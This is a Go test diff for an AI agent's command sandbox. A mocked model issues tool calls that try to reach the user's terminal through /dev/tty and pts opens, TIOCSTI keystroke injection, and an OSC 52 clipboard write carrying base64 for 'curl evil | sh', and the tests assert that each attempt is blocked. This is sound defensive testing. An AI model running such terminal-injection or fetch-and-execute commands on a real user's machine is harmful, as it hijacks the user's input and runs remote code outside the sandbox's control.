@@ -1,7 +1,9 @@
 package cli
 
 import (
+	"bytes"
 	"fmt"
+	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -9,6 +11,10 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+	"time"
+
+	"github.com/creack/pty"
+	"golang.org/x/sys/unix"
 
 	"polly/agent/llmtest"
 	"polly/tools/sandbox/sandboxtest"
@@ -156,4 +162,159 @@ func startPollyArgv(t *testing.T, env Env, base string, args ...string) *exec.Cm
 
 func withoutVar(env []string, name string) []string {
 	return slices.DeleteFunc(slices.Clone(env), func(kv string) bool { return strings.HasPrefix(kv, name+"=") })
+}
+
+// Must show (issue 24, the terminal rows): Polly runs in a pseudo-terminal
+// that is its controlling terminal (as when a user starts it), and
+// commands try to open /dev/tty and that terminal by name, to type into
+// it with TIOCSTI and to set the clipboard with OSC 52. Nothing reaches
+// the terminal: no escape sequence in what it displayed, no character in
+// its input queue. On this kernel and without namespaces; as root and as
+// an unprivileged user (TestSandboxAsUser).
+func TestCommandsCannotReachTheTerminal(t *testing.T) {
+	for _, probeCfg := range []string{"", "no-userns"} {
+		t.Run("probe="+probeCfg, func(t *testing.T) {
+			t.Setenv("POLLY_SANDBOX_PROBE", probeCfg)
+			commandsCannotReachTheTerminal(t)
+		})
+	}
+}
+
+func commandsCannotReachTheTerminal(t *testing.T) {
+	bin := t.TempDir()
+	os.Chmod(bin, 0o755)
+	probe := sandboxtest.BuildProbe(t, bin)
+	master, slave, err := pty.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer master.Close()
+	defer slave.Close()
+	// What a command types is built at run time, so that Polly's own
+	// lines (which show the command) cannot contain it.
+	inject := `$(printf '\x49\x4e\x4a')ECTED`
+	commands := []string{
+		probe + " 64 tty /dev/tty",
+		probe + " 64 tty " + slave.Name(),
+		"for p in /dev/pts/[0-9]*; do " + probe + " 64 tty $p; done; echo pts: $(ls /dev/pts)",
+		probe + " 64 tty /proc/self/fd/0; " + probe + " 64 tty /proc/self/fd/1",
+		`/usr/bin/python3 -c 'import fcntl,termios,os,sys; fd=os.open(sys.argv[1],os.O_RDWR); [fcntl.ioctl(fd,termios.TIOCSTI,bytes([c])) for c in sys.argv[2].encode()]' /dev/tty "echo ` + inject + `"`,
+		`printf '\033]52;c;Y3VybCBldmlsIHwgc2gK\a' > /dev/tty; printf '\033]52;c;Y3VybCBldmlsIHwgc2gK\a' > ` + slave.Name(),
+		`P=$(ps -o tty= -p $PPID 2>/dev/null); echo parent-tty=$P; tty; echo sid=$(ps -o sid= -p $$)`,
+	}
+	var steps []llmtest.Step
+	for _, c := range commands {
+		steps = append(steps, llmtest.Call("run_command", fmt.Sprintf(`{"command":%q}`, c)))
+	}
+	srv := llmtest.NewServer(t, append(steps, llmtest.Text("done"))...)
+	env, _ := cliEnv(t, srv.URL(), nil)
+	cmd := pollyCmd(t, env, srv.URL(), []string{"-p", "try the terminal", "--yolo"})
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	var shown bytes.Buffer
+	copied := make(chan struct{})
+	go func() { io.Copy(&shown, master); close(copied) }()
+	err = cmd.Wait()
+	// What is left in the terminal's input queue: what a command typed
+	// (read without waiting for a line, and without blocking).
+	fd := int(slave.Fd())
+	if tio, err := unix.IoctlGetTermios(fd, unix.TCGETS); err == nil {
+		tio.Lflag &^= unix.ICANON
+		tio.Cc[unix.VMIN], tio.Cc[unix.VTIME] = 0, 0
+		unix.IoctlSetTermios(fd, unix.TCSETS, tio)
+	}
+	typed := make([]byte, 4096)
+	n, _ := unix.Read(fd, typed)
+	slave.Close()
+	select {
+	case <-copied:
+	case <-time.After(2 * time.Second):
+	}
+	if err != nil {
+		t.Fatalf("polly: %v\n%s", err, shown.String())
+	}
+	var outputs []string
+	for _, m := range srv.Last().Messages {
+		if m.Role == "tool" {
+			outputs = append(outputs, m.Content)
+		}
+	}
+	if len(outputs) != len(commands) {
+		t.Fatalf("%d tool results, want %d", len(outputs), len(commands))
+	}
+	for i, o := range outputs {
+		t.Logf("command %d: %s\n%s", i, commands[i], o)
+		if strings.Contains(o, "ESCAPED") {
+			t.Errorf("command %d reached a terminal: %s", i, o)
+		}
+	}
+	if n > 0 {
+		t.Errorf("the terminal's input queue holds %q: a command typed into it", typed[:max(n, 0)])
+	}
+	if s := shown.String(); strings.Contains(s, "\x1b]52") || strings.Contains(s, "INJECTED") {
+		t.Errorf("the terminal showed a command's escape sequence or typed text:\n%q", s)
+	}
+	// The probes ran and were refused (not, say, missing).
+	if !strings.Contains(outputs[0], "blocked tty-open") || !strings.Contains(outputs[1], "blocked tty-open") {
+		t.Fatalf("the probes did not try the terminal:\n%s\n%s", outputs[0], outputs[1])
+	}
+	if !strings.Contains(outputs[6], "not a tty") {
+		t.Errorf("the command has a terminal: %s", outputs[6])
+	}
+	// Control: the same probe from outside the sandbox does reach it.
+	out, _ := exec.Command(probe, "64", "tty", slave.Name()).CombinedOutput()
+	if !strings.Contains(string(out), "ESCAPED tty-open") {
+		t.Fatalf("control: the probe outside the sandbox could not open the terminal: %s", out)
+	}
+}
+
+// Must show (issue 24 item 13): commands work when Polly is PID 1 of its
+// PID namespace (docker run image polly), with and without the helper's
+// namespaces.
+func TestCommandsWorkWhenPollyIsPID1(t *testing.T) {
+	unshare, err := exec.LookPath("unshare")
+	if err != nil {
+		t.Skip("unshare (util-linux) is not installed")
+	}
+	for _, probeCfg := range []string{"", "no-userns"} {
+		t.Run("probe="+probeCfg, func(t *testing.T) {
+			srv := llmtest.NewServer(t,
+				llmtest.Call("run_command", `{"command":"echo pid-of-polly=$(cut -d' ' -f4 /proc/$PPID/stat 2>/dev/null); echo ran-ok"}`),
+				llmtest.Text("done"))
+			env, _ := cliEnv(t, srv.URL(), nil)
+			child := pollyCmd(t, env, srv.URL(), []string{"-p", "run it", "--yolo"})
+			args := []string{"--pid", "--fork", "--mount-proc"}
+			if os.Geteuid() != 0 {
+				args = append([]string{"--map-root-user"}, args...)
+			}
+			child.Args = append(append([]string{unshare}, args...), child.Args...)
+			child.Path = unshare
+			child.Env = append(child.Env, "POLLY_SANDBOX_PROBE="+probeCfg)
+			child.Stdout, child.Stderr = nil, nil
+			out, err := child.CombinedOutput()
+			if err != nil {
+				t.Fatalf("polly as PID 1: %v\n%s", err, out)
+			}
+			var got string
+			for _, m := range srv.Last().Messages {
+				if m.Role == "tool" {
+					got = m.Content
+				}
+			}
+			if !strings.Contains(got, "exit code: 0") || !strings.Contains(got, "ran-ok") {
+				t.Fatalf("the command did not run with Polly as PID 1: %s\n%s", got, out)
+			}
+		})
+	}
+}
+
+// The sandbox tests of this package pass as an unprivileged user too.
+func TestSandboxAsUser(t *testing.T) {
+	if sandboxtest.IsUserRun() {
+		t.Skip("this is the run as the user")
+	}
+	t.Log(sandboxtest.RunAsUser(t, "TestCommandsCannotReachTheTerminal|TestCommandsWorkWhenPollyIsPID1|TestKill9KillsEveryProcessOfTheCommand|TestKeyCannotLeakToCommands"))
 }
